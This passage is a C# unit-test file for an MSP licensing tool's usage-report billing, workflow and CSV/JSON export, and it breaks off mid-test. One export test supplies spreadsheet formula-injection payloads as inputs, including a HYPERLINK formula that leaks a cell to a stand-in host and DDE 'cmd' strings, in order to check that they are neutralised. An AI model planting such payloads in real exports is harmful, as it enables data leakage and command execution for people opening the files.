using System;
using System.Collections.Generic;
using System.Linq;
using MspLicensing.Store;
using Xunit;

namespace MspLicensing.Domain.Tests
{
    public class UsageRuleTests
    {
        private static readonly DateTime Now = SubscriptionFixture.Now;
        private static readonly DateTime March = new DateTime(2026, 3, 1);

        private static List<UsageLine> Lines(SubscriptionFixture f, DateTime month) => f.Store.Read(s => UsageOperations.Lines(s, BillingMonth.Of(month), true)).ToList();

        private static List<UsageSummary> Summary(SubscriptionFixture f, DateTime month) =>
            f.Store.Read(s => UsageOperations.Summaries(UsageOperations.Lines(s, BillingMonth.Of(month), false), BillingMonth.Of(month), UsageOperations.StatusOf(s, BillingMonth.Of(month)))).ToList();

        private static void Customer(SubscriptionFixture f, string name) =>
            f.Store.Write("New-MspCustomer", s => CustomerOperations.Create(s, TestStore.Fields(name), Now));

        private static void Change(SubscriptionFixture f, Subscription s, int seats, DateTime date) =>
            f.Store.Write("Set-MspSubscription", x => SubscriptionOperations.Change(x, SubscriptionRef.ById(s.SubscriptionId), new SubscriptionChanges { Seats = seats, Date = date }, Now, SubscriptionFixture.Today));

        [Fact]
        public void A_line_per_customer_and_license_with_peak_seats_used_and_over_provisioning_R50()
        {
            using var f = new SubscriptionFixture();
            f.Plan("Basic", "WFBSS, CAS", renewal: 1);
            var sub = f.Assign("Basic", new DateTime(2026, 1, 15), seats: 20);
            var id = f.Licenses(sub).Single(l => l.Product == "WFBSS").LicenseId;
            f.Store.Write("Set-MspLicense", s => LicenseOperations.SetUsed(s, id, 12, new DateTime(2026, 3, 5), Now, SubscriptionFixture.Today));
            f.Store.Write("Set-MspLicense", s => LicenseOperations.SetUsed(s, id, 15, new DateTime(2026, 3, 25), Now, SubscriptionFixture.Today));
            f.Store.Write("Set-MspLicense", s => LicenseOperations.SetUsed(s, id, 19, new DateTime(2026, 4, 2), Now, SubscriptionFixture.Today));
            var lines = Lines(f, March);
            Assert.Equal(new[] { "CAS", "WFBSS" }, lines.Select(l => l.Product));
            var wfbss = lines.Single(l => l.Product == "WFBSS");
            Assert.Equal("Contoso", wfbss.Customer);
            Assert.Equal("Basic", wfbss.ServicePlan);
            Assert.Equal(20, wfbss.Provisioned);
            Assert.Equal(15, wfbss.Used);
            Assert.Equal(25.0, wfbss.OverProvisionedPercent);
            Assert.Equal(20, wfbss.Chargeable);
            Assert.Null(lines.Single(l => l.Product == "CAS").Used);
            Assert.Null(lines.Single(l => l.Product == "CAS").OverProvisionedPercent);
        }

        [Fact]
        public void A_plan_name_with_backslashes_colons_and_commas_shows_in_the_report_as_it_was_given_R50()
        {
            using var f = new SubscriptionFixture();
            const string name = @"R&D \ Ops: 50% \t, \n ""Basic""";
            f.Plan(name, "WFBSS", renewal: 1);
            f.Assign(name, new DateTime(2026, 1, 15), seats: 20);
            var line = Lines(f, March).Single();
            Assert.Equal(name, line.ServicePlan);
            Assert.Equal(20, line.Provisioned);
            Assert.Empty(f.Store.Read(UsageLedgers.Disagreeing));
        }

        [Fact]
        public void R56_a_subscription_that_renews_itself_bills_its_last_seats_every_month_after_its_last_change()
        {
            using var f = new SubscriptionFixture();
            f.Plan("Monthly", "WFBSS", initial: 1, renewal: 1);
            var sub = f.Assign("Monthly", new DateTime(2026, 1, 15), seats: 20);
            Change(f, sub, 30, new DateTime(2026, 3, 10));
            Change(f, sub, 25, new DateTime(2026, 6, 20));
            int Seats(int year, int month) => Lines(f, new DateTime(year, month, 1)).Single().Provisioned;
            Assert.Equal(20, Seats(2026, 2));
            Assert.Equal(30, Seats(2026, 3));
            Assert.Equal(30, Seats(2026, 6));
            Assert.Equal(25, Seats(2026, 7));
            Assert.Equal(25, Seats(2028, 5));
            Assert.Empty(Lines(f, new DateTime(2025, 12, 1)));
        }

        /// <summary>
        /// The lines of every month as the usage ledgers have them equal the lines computed from every license and
        /// subscription, after random changes of every kind (those the rules refuse are left out), for months long past,
        /// within and long after the changes: changes in most months of a year, and a few changes over years, where most
        /// months have none in them or in the month before.
        /// </summary>
        [Theory]
        [InlineData(1, 2026, 330, 150)]
        [InlineData(2, 2026, 330, 150)]
        [InlineData(3, 2026, 330, 150)]
        [InlineData(4, 2026, 330, 150)]
        [InlineData(5, 2022, 1760, 40)]
        [InlineData(6, 2022, 1760, 40)]
        public void R52_the_ledgers_bill_every_month_as_the_licenses_do_after_random_changes(int seed, int fromYear, int days, int steps)
        {
            using var f = new SubscriptionFixture();
            var random = new Random(seed);
            f.Plan("Monthly", "WFBSS", initial: 1, renewal: 1);
            f.Plan("Year", "CAS", initial: 12, renewal: 0);
            f.Plan("Yearly renewing", "TMEMS", initial: 12, renewal: 12);
            f.Plan("XDR", "WFXDR", initial: 1, renewal: 1);
            f.Plan("Trial", "WFBSS", initial: 1, version: PlanVersion.Trial, seats: 10);
            for (int i = 1; i <= 3; i++) Customer(f, "Customer " + i);
            var plans = new[] { "Monthly", "Year", "Yearly renewing", "XDR", "Trial" };
            var renewing = new[] { "Monthly", "Yearly renewing" };
            var customers = new[] { "Contoso", "Customer 1", "Customer 2", "Customer 3" };
            DateTime Day() => new DateTime(fromYear, 1, 1).AddDays(random.Next(0, days));
            var subscriptions = new List<Subscription>();
            for (int step = 0; step < steps; step++)
            {
                try
                {
                    // Mostly seat changes; few cancellations and crossgrades, which end subscriptions.
                    int what = subscriptions.Count == 0 ? 0 : random.Next(0, 20);
                    var sub = subscriptions.Count == 0 ? null : subscriptions[random.Next(subscriptions.Count)];
                    var target = sub == null ? null : SubscriptionRef.ById(sub.SubscriptionId);
                    switch (what)
                    {
                        case 0:
                        case 1:
                        case 2:
                        case 3:
                            // Customer 3 holds only subscriptions that renew themselves: nothing of theirs ends on a date.
                            string customer = customers[random.Next(customers.Length)];
                            var choice = customer == "Customer 3" ? renewing : plans;
                            subscriptions.Add(f.Assign(choice[random.Next(choice.Length)], Day(), seats: random.Next(1, 50), customer: customer));
                            break;
                        case int n when n < 12:
                            f.Store.Write("Set-MspSubscription", x => SubscriptionOperations.Change(x, target, new SubscriptionChanges { Seats = random.Next(1, 60), Date = Day() }, Now, SubscriptionFixture.Today));
                            break;
                        case int n when n < 14:
                            // A crossgrade may have moved the subscription's licenses on.
                            var license = f.Licenses(sub).FirstOrDefault();
                            if (license == null) break;
                            f.Store.Write("Set-MspLicense", x => LicenseOperations.SetUsed(x, license.LicenseId, random.Next(0, 70), Day(), Now, SubscriptionFixture.Today));
                            break;
                        case 14:
                            f.Store.Write("Stop-MspSubscription", x => SubscriptionOperations.Cancel(x, target, Day(), Now));
                            break;
                        case int n when n < 17:
                            f.Store.Write("Set-MspSubscription", x => SubscriptionOperations.Change(x, target, new SubscriptionChanges { AutoRenewal = random.Next(2) == 0 }, Now, SubscriptionFixture.Today));
                            break;
                        case 17:
                            f.Store.Write("Invoke-MspCrossgrade", x => CrossgradeOperations.Invoke(x, new CrossgradeRequest
                            {
                                Customer = CustomerRef.ByName(customers[random.Next(customers.Length)]),
                                ServicePlan = ServicePlanRef.ByName(random.Next(2) == 0 ? "XDR" : "Monthly"),
                                Date = Day(),
                            }, Now));
                            break;
                        default:
                            f.Store.Write("Set-MspSubscription", x => SubscriptionOperations.Change(x, target, new SubscriptionChanges { Seats = random.Next(1, 60), Date = Day() }, Now, SubscriptionFixture.Today));
                            break;
                    }
                }
                catch (MspException)
                {
                    // Refused by a rule: nothing changed.
                }
            }
            if (seed % 2 == 0) f.Renew(new DateTime(2026, 11, 30));

            string Text(IEnumerable<UsageLine> lines) => string.Join("\n", lines
                .Select(l => $"{l.CustomerId} {l.Product} {l.Provisioned} {l.Used} {l.ServicePlan} {l.ActivationCode}")
                .OrderBy(t => t, StringComparer.Ordinal));
            var months = Enumerable.Range(0, days / 30 + 50).Select(i => BillingMonth.Of(new DateTime(fromYear - 1, 10, 1)).AddMonths(i)).ToList();
            var (fromLedgers, fromLicenses) = f.Store.Read(s =>
            {
                var subs = s.Subscriptions.All().ToDictionary(x => x.SubscriptionId);
                var all = s.Licenses.All().OrderBy(l => l.ActivationCode, StringComparer.Ordinal).ToList();
                Subscription Of(Guid id) => subs.TryGetValue(id, out var x) ? x : null;
                return (months.Select(m => Text(UsageOperations.Lines(s, m, true).Select(l => { l.Customer = null; return l; }))).ToList(),
                        months.Select(m => Text(UsageOperations.Bill(all, Of, m))).ToList());
            });
            for (int i = 0; i < months.Count; i++)
                Assert.True(fromLicenses[i] == fromLedgers[i], $"{months[i]}:\nlicenses:\n{fromLicenses[i]}\nledgers:\n{fromLedgers[i]}");
            Assert.Contains(fromLicenses, t => t.Length > 0);
        }

        [Fact]
        public void Chargeable_goes_lower_only_with_a_comment_R51()
        {
            using var f = new SubscriptionFixture();
            f.Plan("Basic", "WFBSS", renewal: 1);
            f.Assign("Basic", new DateTime(2026, 1, 15), seats: 20);
            var refused = Assert.Throws<MspException>(() => f.Store.Write("Set-MspUsageReport", s => UsageOperations.Adjust(s, BillingMonth.Of(March), CustomerRef.ByName("Contoso"), "WFBSS", 15, null)));
            Assert.Equal("CommentRequired", refused.ErrorId);
            Assert.Equal("InvalidValue", Assert.Throws<MspException>(() => f.Store.Write("S", s => UsageOperations.Adjust(s, BillingMonth.Of(March), CustomerRef.ByName("Contoso"), "WFBSS", 21, "more"))).ErrorId);
            var line = f.Store.Write("Set-MspUsageReport", s => UsageOperations.Adjust(s, BillingMonth.Of(March), CustomerRef.ByName("Contoso"), "WFBSS", 15, "Onboarded on the 20th"));
            Assert.Equal(15, line.Chargeable);
            Assert.Equal("Onboarded on the 20th", line.Comment);
            Assert.Equal(20, line.Provisioned);
            Assert.Equal(15, Summary(f, March).Single().Chargeable);
            f.Store.Write("Set-MspUsageReport", s => UsageOperations.Adjust(s, BillingMonth.Of(March), CustomerRef.ByName("Contoso"), "WFBSS", 20, null));
            Assert.Null(Lines(f, March).Single().Comment);
        }

        [Fact]
        public void Trials_are_never_billed_until_they_are_converted_R51()
        {
            using var f = new SubscriptionFixture();
            f.Plan("Trial", "WFBSS", initial: 1, version: PlanVersion.Trial, seats: 10);
            f.Plan("Full", "WFBSS", renewal: 1);
            var trial = f.Assign("Trial", new DateTime(2026, 2, 10));
            Assert.Empty(Lines(f, new DateTime(2026, 2, 1)));
            f.Store.Write("Convert-MspSubscription", s => SubscriptionOperations.Convert(s, SubscriptionRef.ById(trial.SubscriptionId), ServicePlanRef.ByName("Full"), 30, new DateTime(2026, 3, 5), Now));
            Assert.Empty(Lines(f, new DateTime(2026, 2, 1)));
            Assert.Equal(30, Lines(f, March).Single().Provisioned);
        }

        [Fact]
        public void A_cancellation_on_the_15th_bills_that_month_in_full_and_nothing_after_R52()
        {
            using var f = new SubscriptionFixture();
            f.Plan("Basic", "WFBSS", renewal: 1);
            var sub = f.Assign("Basic", new DateTime(2026, 1, 15), seats: 20);
            f.Store.Write("Stop-MspSubscription", s => SubscriptionOperations.Cancel(s, SubscriptionRef.ById(sub.SubscriptionId), new DateTime(2026, 3, 15), Now));
            Assert.Equal(20, Lines(f, March).Single().Chargeable);
            Assert.Empty(Lines(f, new DateTime(2026, 4, 1)));
            Assert.Equal(20, Lines(f, new DateTime(2026, 1, 1)).Single().Chargeable);
        }

        [Fact]
        public void A_seat_rise_and_fall_within_a_month_bills_the_peak_R52()
        {
            using var f = new SubscriptionFixture();
            f.Plan("Basic", "WFBSS", renewal: 1);
            var sub = f.Assign("Basic", new DateTime(2026, 1, 15), seats: 20);
            Change(f, sub, 35, new DateTime(2026, 3, 10));
            Change(f, sub, 22, new DateTime(2026, 3, 20));
            Assert.Equal(35, Lines(f, March).Single().Provisioned);
            Assert.Equal(22, Lines(f, new DateTime(2026, 4, 1)).Single().Provisioned);
            Assert.Equal(20, Lines(f, new DateTime(2026, 2, 1)).Single().Provisioned);
        }

        [Fact]
        public void Seats_of_all_customers_add_up_to_the_band_and_suites_bill_as_the_suite_R53()
        {
            using var f = new SubscriptionFixture();
            f.Plan("Endpoint", "WFBSS", renewal: 1);
            f.Plan("XDR", "WFXDR", renewal: 1);
            // Seed 004: 300 seats, then a new customer with 25: 325 seats, band 251-500.
            for (int i = 1; i <= 3; i++) Customer(f, "Customer " + i);
            for (int i = 1; i <= 3; i++) f.Assign("Endpoint", new DateTime(2026, 1, 10), seats: 100, customer: "Customer " + i);
            Assert.Equal("251-500", Summary(f, March).Single().Band);
            Assert.Equal(300, Summary(f, March).Single().Chargeable);
            Customer(f, "New customer");
            f.Assign("Endpoint", new DateTime(2026, 3, 20), seats: 25, customer: "New customer");
            var wfbss = Summary(f, March).Single();
            Assert.Equal(325, wfbss.Chargeable);
            Assert.Equal(4, wfbss.Customers);
            Assert.Equal("251-500", wfbss.Band);
            // A suite is one line under its own code, whatever its components.
            f.Assign("XDR", new DateTime(2026, 3, 1), seats: 15);
            var xdr = Lines(f, March).Where(l => l.Customer == "Contoso").ToList();
            Assert.Equal("WFXDR", xdr.Single().Product);
            Assert.Equal(15, xdr.Single().Provisioned);
            Assert.Equal("1-25", Summary(f, March).Single(s => s.Product == "WFXDR").Band);
        }

        [Fact]
        public void A_crossgrade_month_bills_each_product_once()
        {
            using var f = new SubscriptionFixture();
            f.Plan("Monthly", "WFBSS", initial: 1, renewal: 1);
            f.Plan("XDR", "WFXDR", renewal: 1);
            f.Assign("Monthly", new DateTime(2026, 1, 15), seats: 25);
            f.Store.Write("Invoke-MspCrossgrade", s => CrossgradeOperations.Invoke(s, new CrossgradeRequest
            {
                Customer = CustomerRef.ByName("Contoso"),
                ServicePlan = ServicePlanRef.ByName("XDR"),
                Date = new DateTime(2026, 3, 15),
            }, Now));
            Assert.Equal("WFBSS", Lines(f, new DateTime(2026, 2, 1)).Single().Product);
            var march = Lines(f, March);
            Assert.Equal("WFXDR", march.Single().Product);
            Assert.Equal(25, march.Single().Provisioned);
        }

        [Fact]
        public void A_downgrade_month_bills_the_suite_once_and_not_its_components_R53()
        {
            using var f = new SubscriptionFixture();
            f.Plan("XDR", "WFXDR", renewal: 1);
            f.Plan("Endpoint", "WFBSS", renewal: 1);
            f.Assign("XDR", March, seats: 20);
            f.Store.Write("Invoke-MspCrossgrade", s => CrossgradeOperations.Invoke(s, new CrossgradeRequest
            {
                Customer = CustomerRef.ByName("Contoso"),
                ServicePlan = ServicePlanRef.ByName("Endpoint"),
                Date = new DateTime(2026, 5, 20),
            }, Now));

            // May: the licenses sat in the suite until the 20th, so the month bills as WFXDR, once, at 20 seats.
            var may = Lines(f, new DateTime(2026, 5, 1));
            Assert.Equal("WFXDR", may.Single().Product);
            Assert.Equal(20, may.Single().Provisioned);
            Assert.Equal(20, Summary(f, new DateTime(2026, 5, 1)).Single().Chargeable);
            // June: outside the suite; WFBSS in the new plan, and the unbundled components on their own.
            var june = Lines(f, new DateTime(2026, 6, 1));
            Assert.DoesNotContain(june, l => l.Product == "WFXDR");
            Assert.Equal(20, june.Single(l => l.Product == "WFBSS").Provisioned);
        }

        [Fact]
        public void An_auto_renewing_subscription_bills_and_stays_active_without_a_renewal_run_R56()
        {
            using var f = new SubscriptionFixture();
            f.Plan("Monthly", "WFBSS", initial: 1, renewal: 1);
            var sub = f.Assign("Monthly", new DateTime(2026, 1, 10), seats: 10);
            // No renewal run since January: every month through June still bills, the license is Active.
            for (int month = 1; month <= 6; month++)
                Assert.Equal(10, Lines(f, new DateTime(2026, month, 1)).Single().Chargeable);
            var june15 = new DateTime(2026, 6, 15);
            var license = f.Store.Read(x => LicenseOperations.Find(x, new LicenseQuery { SubscriptionId = sub.SubscriptionId, AsOf = june15 })).Single();
            Assert.Equal(LicenseStatus.Active, license.Status);
            Assert.Equal(new DateTime(2026, 7, 10), license.ExpirationDate);
            var shown = f.Get(sub, june15);
            Assert.Equal(SubscriptionStatus.Active, shown.Status);
            Assert.Equal(new DateTime(2026, 7, 10), shown.ExpirationDate);

            // The renewal run records the same and changes no figure; a second run changes nothing.
            var before = Lines(f, new DateTime(2026, 6, 1)).Single().Chargeable;
            Assert.Contains(f.Renew(june15), a => a.Action == "Renewed" && a.To == "2026-07-10");
            Assert.Empty(f.Renew(june15));
            Assert.Equal(before, Lines(f, new DateTime(2026, 6, 1)).Single().Chargeable);
        }

        [Fact]
        public void Cancelling_or_suspending_after_missed_renewals_keeps_what_was_renewed_through_R56()
        {
            using var f = new SubscriptionFixture();
            f.Plan("Monthly", "WFBSS", initial: 1, renewal: 1);
            Customer(f, "Fabrikam");
            var cancelled = f.Assign("Monthly", new DateTime(2026, 1, 10), seats: 10);
            var suspended = f.Assign("Monthly", new DateTime(2026, 1, 10), seats: 7, customer: "Fabrikam");
            var june15 = new DateTime(2026, 6, 15);
            f.Store.Write("Stop-MspSubscription", x => SubscriptionOperations.Cancel(x, SubscriptionRef.ById(cancelled.SubscriptionId), june15, Now));
            f.Store.Write("Suspend-MspSubscription", x => SubscriptionOperations.Suspend(x, SubscriptionRef.ById(suspended.SubscriptionId), june15, null, Now));

            var june = Lines(f, new DateTime(2026, 6, 1));
            Assert.Equal(new[] { ("Contoso", 10), ("Fabrikam", 7) }, june.Select(l => (l.Customer, l.Chargeable)));
            // The suspended one runs to the end of the period it had renewed into (July 10); the cancelled one ends in June.
            Assert.Equal(new[] { ("Fabrikam", 7) }, Lines(f, new DateTime(2026, 7, 1)).Select(l => (l.Customer, l.Chargeable)));
            Assert.Empty(Lines(f, new DateTime(2026, 8, 1)));
            Assert.Equal(new DateTime(2026, 7, 10), f.Get(suspended, june15).ExpirationDate);
        }

        [Fact]
        public void A_report_moves_from_preparing_to_submitted_to_approved_or_back_when_rejected_R54()
        {
            using var f = new SubscriptionFixture();
            f.Plan("Basic", "WFBSS", renewal: 1);
            f.Assign("Basic", new DateTime(2026, 1, 15), seats: 20);
            Assert.Equal(UsageReportStatus.Preparing, f.Store.Read(s => UsageOperations.StatusOf(s, BillingMonth.Of(March))));
            Assert.Equal("UsageReportNotSubmitted", Assert.Throws<MspException>(() => f.Store.Write("A", s => UsageOperations.Approve(s, BillingMonth.Of(March), Now))).ErrorId);
            Assert.Equal(UsageReportStatus.Submitted, f.Store.Write("S", s => UsageOperations.Submit(s, BillingMonth.Of(March), new DateTime(2026, 4, 2), Now)).Report.Status);
            var frozen = Assert.Throws<MspException>(() => f.Store.Write("Set", s => UsageOperations.Adjust(s, BillingMonth.Of(March), CustomerRef.ByName("Contoso"), "WFBSS", 10, "x")));
            Assert.Equal("UsageReportFrozen", frozen.ErrorId);
            Assert.Contains("R54", frozen.Message);
            var rejected = f.Store.Write("D", s => UsageOperations.Deny(s, BillingMonth.Of(March), "Recount", Now));
            Assert.Equal(UsageReportStatus.Rejected, rejected.Status);
            Assert.Equal("Recount", rejected.RejectedReason);
            f.Store.Write("Set", s => UsageOperations.Adjust(s, BillingMonth.Of(March), CustomerRef.ByName("Contoso"), "WFBSS", 10, "Recounted"));
            f.Store.Write("S", s => UsageOperations.Submit(s, BillingMonth.Of(March), new DateTime(2026, 4, 2), Now));
            Assert.Equal(UsageReportStatus.Approved, f.Store.Write("A", s => UsageOperations.Approve(s, BillingMonth.Of(March), Now)).Status);
            Assert.Equal(10, Summary(f, March).Single().Chargeable);
            Assert.Equal(UsageReportStatus.Approved, Summary(f, March).Single().Status);
            var again = f.Store.Write("S", s => UsageOperations.Submit(s, BillingMonth.Of(March), new DateTime(2026, 4, 2), Now));
            Assert.False(again.Changed);
            Assert.Equal(UsageReportStatus.Approved, again.Report.Status);
            Assert.Equal("InvalidValue", Assert.Throws<MspException>(() => f.Store.Write("S", s => UsageOperations.Submit(s, BillingMonth.Of(new DateTime(2026, 12, 1)), new DateTime(2026, 11, 23), Now))).ErrorId);
            Assert.Equal(4, f.Store.Read(s => s.AuditLog(new AuditQuery { TargetType = "UsageReport" }).Count(e => e.Action != "Update")));
        }

        [Fact]
        public void A_month_is_submitted_once_it_has_ended_and_early_only_with_force_R54()
        {
            using var f = new SubscriptionFixture();
            f.Plan("Basic", "WFBSS", renewal: 1);
            f.Assign("Basic", new DateTime(2026, 1, 15), seats: 20);
            var lastDay = new DateTime(2026, 3, 31);
            var notEnded = Assert.Throws<MspException>(() => f.Store.Write("S", s => UsageOperations.Submit(s, BillingMonth.Of(March), lastDay, Now)));
            Assert.Equal("UsageMonthNotEnded", notEnded.ErrorId);
            Assert.Contains("2026-03", notEnded.Message);
            Assert.Contains("2026-04-01", notEnded.Message);
            Assert.Contains("-Force", notEnded.Message);
            Assert.Equal(UsageReportStatus.Preparing, f.Store.Read(s => UsageOperations.StatusOf(s, BillingMonth.Of(March))));
            Assert.Empty(f.Store.Read(s => s.AuditLog(new AuditQuery { TargetType = "UsageReport" })));

            var early = f.Store.Write("S", s => UsageOperations.Submit(s, BillingMonth.Of(March), lastDay, Now, early: true));
            Assert.True(early.Changed);
            Assert.Equal(UsageReportStatus.Submitted, early.Report.Status);
            Assert.Contains("before the month ended", f.Store.Read(s => s.AuditLog(new AuditQuery { TargetType = "UsageReport" })).Single().Summary);
            // A month that has not begun is refused even with -Force.
            Assert.Equal("InvalidValue", Assert.Throws<MspException>(() => f.Store.Write("S", s => UsageOperations.Submit(s, BillingMonth.Of(new DateTime(2026, 4, 1)), lastDay, Now, early: true))).ErrorId);
        }

        [Fact]
        public void Submitting_a_submitted_month_again_changes_nothing_R54()
        {
            using var f = new SubscriptionFixture();
            f.Plan("Basic", "WFBSS", renewal: 1);
            var sub = f.Assign("Basic", new DateTime(2026, 1, 15), seats: 20);
            var first = f.Store.Write("S", s => UsageOperations.Submit(s, BillingMonth.Of(March), new DateTime(2026, 4, 1), Now));
            Assert.True(first.Changed);
            Change(f, sub, 80, new DateTime(2026, 3, 5));
            var second = f.Store.Write("S", s => UsageOperations.Submit(s, BillingMonth.Of(March), new DateTime(2026, 4, 1), Now.AddHours(1)));
            Assert.False(second.Changed);
            Assert.Equal(UsageReportStatus.Submitted, second.Report.Status);
            Assert.Equal(Now, second.Report.SubmittedUtc);
            Assert.Equal(20, Summary(f, March).Single().Chargeable);
            Assert.Single(f.Store.Read(s => s.AuditLog(new AuditQuery { TargetType = "UsageReport" })));
        }

        [Fact]
        public void A_submitted_month_stays_as_submitted_when_changes_are_back_dated_R54()
        {
            using var f = new SubscriptionFixture();
            f.Plan("Basic", "WFBSS", renewal: 1);
            var sub = f.Assign("Basic", new DateTime(2026, 1, 15), seats: 20);
            f.Store.Write("S", s => UsageOperations.Submit(s, BillingMonth.Of(March), new DateTime(2026, 4, 2), Now));
            f.Store.Write("Set-MspAccount", s => AccountOperations.Update(s, new AccountChanges { SeatBandMinimums = new[] { 1, 10 } }, null));
            Change(f, sub, 80, new DateTime(2026, 3, 5));
            Customer(f, "Late");
            f.Assign("Basic", new DateTime(2026, 3, 2), seats: 5, customer: "Late");
            var march = Summary(f, March).Single();
            Assert.Equal(20, march.Chargeable);
            Assert.Equal(1, march.Customers);
            Assert.Equal("1-25", march.Band);
            Assert.Equal(UsageReportStatus.Submitted, march.Status);
            // The month after is live.
            Assert.Equal(85, Summary(f, new DateTime(2026, 4, 1)).Single().Chargeable);
        }

        [Fact]
        public void Reports_export_flat_with_invariant_numbers_R55()
        {
            using var f = new SubscriptionFixture();
            f.Plan("Basic", "WFBSS", renewal: 1);
            var sub = f.Assign("Basic", new DateTime(2024, 1, 15), seats: 3);
            var id = f.Licenses(sub).Single().LicenseId;
            f.Store.Write("Set-MspLicense", s => LicenseOperations.SetUsed(s, id, 2, new DateTime(2024, 2, 5), Now, SubscriptionFixture.Today));
            // Two years back is still there.
            var lines = Lines(f, new DateTime(2024, 2, 1));
            var csv = UsageExport.Write(lines, ExportFormat.Csv);
            Assert.StartsWith("Month,CustomerId,Customer,Product,ProductName,ServicePlan,ActivationCode,Provisioned,Used,OverProvisionedPercent,Chargeable,Comment,Band,Status,ExceededBy\r\n", csv);
            Assert.Contains(",3,2,33.3,3,,1-25,Preparing,0\r\n", csv);
            var json = UsageExport.Write(UsageOperations.Summaries(lines, BillingMonth.Of(new DateTime(2024, 2, 1)), UsageReportStatus.Preparing), ExportFormat.Json);
            Assert.Contains("\"Month\": \"2024-02\"", json);
            Assert.Contains("\"Used\": 2", json);
            var previous = System.Globalization.CultureInfo.CurrentCulture;
            try
            {
                System.Globalization.CultureInfo.CurrentCulture = new System.Globalization.CultureInfo("de-DE");
                Assert.Contains(",33.3,", UsageExport.Write(lines, ExportFormat.Csv));
            }
            finally
            {
                System.Globalization.CultureInfo.CurrentCulture = previous;
            }
        }

        [Theory]
        [InlineData("=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")")]
        [InlineData("+cmd|' /C calc'!A0")]
        [InlineData("-2+3")]
        [InlineData("@SUM(1+1)*cmd|' /C calc'!A0")]
        [InlineData("\tTabbed")]
        [InlineData("\rReturn")]
        public void Exported_text_cells_cannot_run_as_spreadsheet_formulas_R55(string name)
        {
            var line = new UsageLine { Month = "2026-03", Customer = name, Product = "WFBSS", Provisioned = 5, Used = 6, OverProvisionedPercent = -20.0, Chargeable = 5, Comment = "=1+1" };
            var csv = UsageExport.Write(new[] { line }, ExportFormat.Csv);
            var row = csv.Split(new[] { "\r\n" }, StringSplitOptions.None)[1];
            var quoted = name.IndexOfAny(new[] { ',', '"', '\r', '\n' }) >= 0 ? "\"'" + name.Replace("\"", "\"\"") + "\"" : "'" + name;
            Assert.Contains("," + quoted + ",", row);
            Assert.Contains(",'=1+1,", row);
            // Numbers stay numbers: a negative over-provisioned percentage is not text.
            Assert.Contains(",5,6,-20,5,", row);
            // JSON carries the names as they are.
            Assert.Contains("\"Comment\": \"=1+1\"", UsageExport.Write(new[] { line }, ExportFormat.Json));
        }
    
        [Fact]
        public void R50_over_provisioning_is_never_negative_and_a_used_count_above_provisioned_shows_as_exceeded()
        {
            using var f = new SubscriptionFixture();
            f.Plan("Basic", "WFBSS, CAS", renewal: 1);
            var sub = f.Assign("Basic", new DateTime(2026, 1, 15), seats: 20);
            var licenses = f.Licenses(sub);
            f.Store.Write("Set-MspLicense", s => LicenseOperations.SetUsed(s, licenses.Single(l => l.Product == "WFBSS").LicenseId, 30, new DateTime(2026, 3, 5), Now, SubscriptionFixture.Today));
            f.Store.Write("Set-MspLicense", s => LicenseOperations.SetUsed(s, licenses.Single(l => l.Product == "CAS").LicenseId, 15, new DateTime(2026, 3, 5), Now, SubscriptionFixture.Today));
            var lines = Lines(f, March);
            var exceeded = lines.Single(l => l.Product == "WFBSS");
            Assert.Equal((0.0, 10), (exceeded.OverProvisionedPercent.Value, exceeded.ExceededBy.Value));
            var within = lines.Single(l => l.Product == "CAS");
            Assert.Equal((25.0, 0), (within.OverProvisionedPercent.Value, within.ExceededBy.Value));
            Assert.Equal(((double?)null, (int?)null), UsageLine.Usage(20, null));
            Assert.Equal(((double?)0.0, (int?)0), UsageLine.Usage(20, 20));

            // Frozen as they are, and shown the same way once submitted.
            f.Store.Write("Submit-MspUsageReport", s => UsageOperations.Submit(s, BillingMonth.Of(March), new DateTime(2026, 4, 2), Now));
            Assert.Equal(10, Lines(f, March).Single(l => l.Product == "WFBSS").ExceededBy);
            var csv = UsageExport.Write(Lines(f, March), ExportFormat.Csv).Split(new[] { "\r\n" }, StringSplitOptions.RemoveEmptyEntries);
            Assert.EndsWith(",Status,ExceededBy", csv[0]);
            Assert.EndsWith(",20,30,0,20,,1-25,Submitted,10", csv.Single(l => l.Contains(",WFBSS,")));
        }

        [Fact]
        public void R50_lines_frozen_with_a_negative_percentage_by_an_older_version_read_as_exceeded()
        {
            using var f = new SubscriptionFixture();
            f.Store.Write("seed", s =>
            {
                s.SaveUsageReport(new UsageReport
                {
                    Month = "2026-03", Status = UsageReportStatus.Approved, FrozenSeatBands = new TextList<int>(Account.DefaultSeatBandMinimums),
                    FrozenLines = { new UsageLine { Month = "2026-03", CustomerId = f.Customer.CustomerId, Product = "WFBSS", Provisioned = 20, Used = 30, OverProvisionedPercent = -50, Chargeable = 20 } },
                });
                return 0;
            });
            var line = Lines(f, March).Single();
            Assert.Equal(0.0, line.OverProvisionedPercent);
            Assert.Equal(10, line.ExceededBy);
        }

        [Fact]
        public void R54_a_rejected_report_comes_back_with_its_lines_and_its_reason_goes_when_it_is_submitted_again()
        {
            using var f = new SubscriptionFixture();
            f.Plan("Basic", "WFBSS, CAS", renewal: 1);
            f.Assign("Basic", new DateTime(2026, 1, 15), seats: 20);
            var submitted = f.Store.Write("Submit-MspUsageReport", s => UsageOperations.Submit(s, BillingMonth.Of(March), new DateTime(2026, 4, 2), Now)).Report;
            Assert.Equal(2, submitted.Lines.Count);
            var rejected = f.Store.Write("Deny-MspUsageReport", s => UsageOperations.Deny(s, BillingMonth.Of(March), "Contoso has 18 seats", Now));
            Assert.Equal(UsageReportStatus.Rejected, rejected.Status);
            Assert.Equal("Contoso has 18 seats", rejected.RejectedReason);
            Assert.Equal(new[] { ("CAS", 20, UsageReportStatus.Rejected), ("WFBSS", 20, UsageReportStatus.Rejected) }, rejected.Lines.Select(l => (l.Product, l.Chargeable, l.Status)));
            Assert.All(rejected.Lines, l => Assert.Equal("Contoso", l.Customer));

            f.Store.Write("Submit-MspUsageReport", s => UsageOperations.Submit(s, BillingMonth.Of(March), new DateTime(2026, 4, 2), Now));
            var approved = f.Store.Write("Approve-MspUsageReport", s => UsageOperations.Approve(s, BillingMonth.Of(March), Now));
            Assert.Null(approved.RejectedReason);
            Assert.Null(approved.RejectedUtc);
            Assert.Equal(2, approved.Lines.Count);
            Assert.Contains(f.Store.Read(s => s.AuditLog(new AuditQuery { TargetType = "UsageReport" }).ToList()), e => e.Summary.Contains("Rejected: Contoso has 18 seats"));
        }

        [Theory]
        [InlineData("1999-01")]
        [InlineData("2100-01")]
        public void A_month_outside_2000_to_2099_is_refused_by_its_month_not_a_day(string month)
        {
            var ex = Assert.Throws<MspException>(() => BillingMonth.Parse("Month", month));
